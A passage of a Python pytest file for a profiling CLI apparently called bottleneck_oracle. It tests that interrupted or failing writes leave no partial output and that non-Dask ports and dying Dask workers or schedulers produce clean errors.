    manifest = json.loads((target / "graphs.json").read_text())
    return all((target / g["file"]).is_file() for g in manifest["graphs"])


def test_a_signal_mid_write_leaves_nothing_half_written(tmp_path):
    """SIGTERM / SIGHUP while --html, --perfetto or parse write: the temporary files and folders go,
    and the output is there whole or not at all; an interrupted run exits 128 + N. (A signal can
    land just after the output was committed: then it is whole. The HTML report, rendered for a
    second inside its temporary file's life, is caught mid-write; on a loaded machine the poller
    can miss that second, so its run is tried up to three times until it is.)"""
    html = (signal.SIGTERM, ["analyze", str(SAMPLE), "--advise", "--html", str(tmp_path / "out" / "r.html")], "r.html")
    runs = [
        html,
        (signal.SIGHUP, ["analyze", str(SAMPLE), "--perfetto", str(tmp_path / "out" / "p.json.gz")], "p.json.gz"),
        (signal.SIGTERM, ["parse", str(SAMPLE), "--output", str(tmp_path / "out" / "graphs")], "graphs"),
        html,
        html,
    ]
    (tmp_path / "out").mkdir()
    interrupted: list[str] = []
    for sig, args, target in runs:
        if target in interrupted:  # (the HTML run again only while it has not been caught)
            continue
        p = popen_cli(args, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
        hit = _kill_when(p, str(tmp_path / "out" / f".{target}.*"), sig)
        err = p.communicate(timeout=120)[1]
        left = os.listdir(tmp_path / "out")
        assert [x for x in left if x.startswith(".")] == [], (target, left)
        assert p.returncode in (0, 128 + sig) and "Traceback" not in err, (target, p.returncode, err)
        if target in left:
            assert _whole(tmp_path / "out" / target), target
            shutil.rmtree(tmp_path / "out" / target) if (tmp_path / "out" / target).is_dir() else (tmp_path / "out" / target).unlink()
        elif hit:
            assert p.returncode == 128 + sig, (target, p.returncode)
            interrupted.append(target)
    assert "r.html" in interrupted


def test_a_full_disk_leaves_nothing_half_written(tmp_path):
    """Writes that fail part-way (a file size limit stands in for a full disk: the same error
    at the same place): one error line naming the output, nothing left, no temporary file."""
    env = {**os.environ, "PYTHONPATH": SRC}

    def limited():
        resource.setrlimit(resource.RLIMIT_FSIZE, (20_000, 20_000))

    (tmp_path / "out").mkdir()
    for args in (
        ["analyze", str(SAMPLE), "--html", str(tmp_path / "out" / "r.html")],
        ["parse", str(SAMPLE), "--output", str(tmp_path / "out" / "graphs")],
    ):
        r = subprocess.run(
            [sys.executable, "-m", "bottleneck_oracle", *args], capture_output=True, text=True, env=env, timeout=120, preexec_fn=limited
        )
        assert judge(args[0], r.returncode, r.stdout, r.stderr, "error") == [] and "cannot write" in r.stderr, r.stderr
        assert os.listdir(tmp_path / "out") == []


def test_a_read_only_output_folder_is_one_error(tmp_path, capsys):
    ro = tmp_path / "ro"
    ro.mkdir()
    mounted = False
    if os.geteuid() == 0:  # root writes through permissions: a read-only file system instead, where one can be mounted
        mounted = subprocess.run(["mount", "-t", "tmpfs", "-o", "ro,size=1m", "tmpfs", str(ro)], capture_output=True).returncode == 0
        if not mounted:
            pytest.skip("root without a read-only file system to write into")
    else:
        ro.chmod(0o555)
    try:
        for args in (["analyze", str(SAMPLE), "--html", str(ro / "r.html")], ["parse", str(SAMPLE), "--output", str(ro / "g")]):
            code, out, err = run_cli(args, capsys, seconds=60)
            assert judge(args[0], code, out, err, "error") == [] and str(ro) in err, err
        assert os.listdir(ro) == []
    finally:
        if mounted:
            subprocess.run(["umount", str(ro)], check=False)


def test_parse_commits_its_folder_as_a_whole(tmp_path, capsys):
    """A second parse replaces the first one's folder (no stale step from the first is left); a
    folder holding anything else is refused before the work."""
    out = tmp_path / "g"
    assert run_cli(["parse", str(SAMPLE), "--output", str(out)], capsys, seconds=60)[0] == 0
    assert sorted(os.listdir(out)) == ["graphs.json", "step-1.npz", "step-2.npz", "step-3.npz"]
    assert run_cli(["parse", str(SAMPLE), "--output", str(out), "--step", "2"], capsys, seconds=60)[0] == 0
    assert sorted(os.listdir(out)) == ["graphs.json", "step-2.npz"]
    (out / "notes.txt").write_text("mine")
    code, _, err = run_cli(["parse", str(SAMPLE), "--output", str(out)], capsys, seconds=60)
    assert code == 2 and "notes.txt" in err and sorted(os.listdir(out)) == ["graphs.json", "notes.txt", "step-2.npz"]
    assert [p for p in os.listdir(tmp_path) if p.startswith(".")] == []


# ---- Dask: addresses that are not a scheduler, workers and schedulers that die -------------------


def test_a_port_that_is_not_dask_is_refused_before_dask_reads_it(capsys, monkeypatch):
    """An HTTP server (it waits for the client to speak) and a server that greets with junk: Dask
    would read their first bytes as a message length (2.8 EiB)."""

    class Quiet(BaseHTTPRequestHandler):
        def log_message(self, *a):
            pass

    http_server = ThreadingHTTPServer(("127.0.0.1", 0), Quiet)
    threading.Thread(target=http_server.serve_forever, daemon=True).start()
    import socket

    junk = socket.create_server(("127.0.0.1", 0))

    def greet():
        while True:
            try:
                c, _ = junk.accept()
            except OSError:
                return
            c.sendall(b"\xff" * 16 + b"SSH-2.0-OpenSSH\r\n")
            c.close()

    threading.Thread(target=greet, daemon=True).start()
    from bottleneck_oracle.graph_pipeline import engine

    monkeypatch.setattr(engine, "PROBE_S", 1.0)  # (the HTTP server says nothing: a second is enough to tell)
    try:
        for port in (http_server.server_address[1], junk.getsockname()[1]):
            code, out, err = run_cli(["analyze", str(SAMPLE), "--executor", f"dask://127.0.0.1:{port}"], capsys, seconds=60)
            assert judge("not dask", code, out, err, "error") == [] and "not a Dask scheduler" in err, err
    finally:
        http_server.shutdown()
        junk.close()


def _die_once(marker: str, x: int) -> int:
    if not os.path.exists(marker):
        open(marker, "w").close()
        os._exit(1)  # the worker process dies mid-task
    return x * 2


def _always_die(shared, x: int) -> int:
    os._exit(1)


def _slow(shared, x: int) -> int:
    time.sleep(20)
    return x


CLUSTER = """
import sys, time
from distributed import LocalCluster
if __name__ == "__main__":
    c = LocalCluster(n_workers=1, threads_per_worker=1, processes=True, dashboard_address=None, silence_logs=50, memory_limit=0)
    print(c.scheduler_address, flush=True)
    time.sleep(600)
"""


def test_dask_workers_and_schedulers_that_die(tmp_path):
    """A scheduler and its worker in processes of their own: a worker killed mid-task has the task
    run again (the answer is whole); a task that kills every worker it runs on, and a scheduler
    killed mid-run, are one OracleError each (not a hang, a traceback or Dask's log on stderr)."""
    pytest.importorskip("distributed")
    from bottleneck_oracle.errors import OracleError
    from bottleneck_oracle.graph_pipeline.engine import make_engine

    (tmp_path / "cluster.py").write_text(CLUSTER)
    env = {
        **os.environ,
        "PYTHONPATH": os.pathsep.join([SRC, str(Path(__file__).parent)]),
        "DASK_DISTRIBUTED__SCHEDULER__ALLOWED_FAILURES": "1",
    }
    proc = subprocess.Popen(
        [sys.executable, str(tmp_path / "cluster.py")],
        stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
        text=True,
        env=env,
        cwd=tmp_path,
        start_new_session=True,
    )
    try:
        address = proc.stdout.readline().strip()
        assert address.startswith("tcp://"), address
        engine = make_engine("dask://" + address.removeprefix("tcp://"))
        assert engine.map(_die_once, range(4), shared=str(tmp_path / "marker")) == [0, 2, 4, 6]
        with pytest.raises(OracleError, match="died during it"):
            engine.map(_always_die, range(2))
        results = engine.imap(_slow, range(2))
        threading.Timer(2.0, os.killpg, (proc.pid, signal.SIGKILL)).start()
        t = time.monotonic()
        with pytest.raises(OracleError, match="lost the scheduler"):
            list(results)
        assert time.monotonic() - t < 15
        engine.close()
    finally:
        if proc.poll() is None:
            os.killpg(proc.pid, signal.SIGKILL)
        proc.wait()
